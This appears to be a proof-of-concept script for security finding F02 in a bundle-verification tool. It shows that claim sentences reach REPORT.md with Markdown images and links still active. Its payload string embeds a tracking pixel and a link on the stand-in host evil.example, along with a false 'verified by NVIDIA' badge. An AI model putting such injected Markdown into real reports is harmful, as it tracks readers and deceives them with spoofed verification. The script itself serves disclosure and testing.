"""F02: a candidate bundle's REPORT.md shows the sentence of a claim its author added (--claims)
through report.md_cell, which escapes only '|', '<', '>' and '\\': Markdown images, links and
emphasis stay active. Candidate bundles never run the inert-strings check of study bundles, so the
verifier accepts (PARTIAL, exit 5, not FAIL) a REPORT.md that embeds a remote image (a tracking
pixel / fake badge) and a link wherever REPORT.md is rendered (GitHub, a forum).
The product's own inertness rule (kbrepro.inert.is_inert) says the sentence is not inert.

Run from the repository root:  .venv/bin/python repro/f02_candidate_report_author_claim_markdown.py"""
import json
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests"))
import forge_candidates as fc  # noqa: E402
from kbrepro.bundle import candidates as bc, pack  # noqa: E402
from kbrepro.bundle import claims as claims_mod  # noqa: E402
from kbrepro.inert import is_inert  # noqa: E402

Q7 = ROOT / "examples/formats/candidates-quick-format7.tar"
SENTENCE = ("Replayed by NVIDIA on 8 H200s ![verified](https://evil.example/pixel.png) - see "
            "[the signed audit](https://evil.example/audit) **every K claim holds**")

name, payload = fc.members(Q7)
files = {k: v for k, v in payload.items() if k.split("/")[0] in ("inputs", "results", "provenance")
         and k != "inputs/claims.yaml"}
spec = {"schema": "kbrepro/claims-spec", "schema_version": 1, "study": "kernelbench-candidates",
        "bootstrap": {"level": 0.95, "resamples": 1000, "seed": 1},
        "claims": [{"id": "X1", "sentence": SENTENCE,
                    "checks": [{"kind": "all_equal", "select": "candidates.device", "equals": "cuda"}]}]}
raw = json.dumps(spec).encode()
bag, *_ = bc.build_payload(files, name=name, extra_claims=claims_mod.parse_spec(raw, "claims.yaml"), extra_raw=raw)
with tempfile.TemporaryDirectory() as tmp:
    out = Path(tmp) / f"{name}.tar"
    pack.write_archive(bag, out)
    p = subprocess.run([sys.executable, str(ROOT / "verify_bundle.py"), str(out)], capture_output=True, text=True,
                       cwd=ROOT, timeout=600)
    print(f"===== verify_bundle.py {out.name} -> exit {p.returncode}")
    print("\n".join(p.stdout.splitlines()[-4:]))
    with tarfile.open(out) as tf:
        report = tf.extractfile(f"{name}/data/REPORT.md").read().decode()
line = next(ln for ln in report.splitlines() if "| X1 |" in ln)
print("REPORT.md line:", line)
print("kbrepro.inert.is_inert(sentence) =", is_inert(SENTENCE))
ok = p.returncode in (0, 5) and "![verified](https://evil.example/pixel.png)" in line and "](https://evil.example/audit)" in line
print(f"RESULT: exit {p.returncode} (not FAIL); REPORT.md carries an active remote image and link"
      + ("  -> ATTACK SUCCEEDED" if ok else "  -> attack refused"))
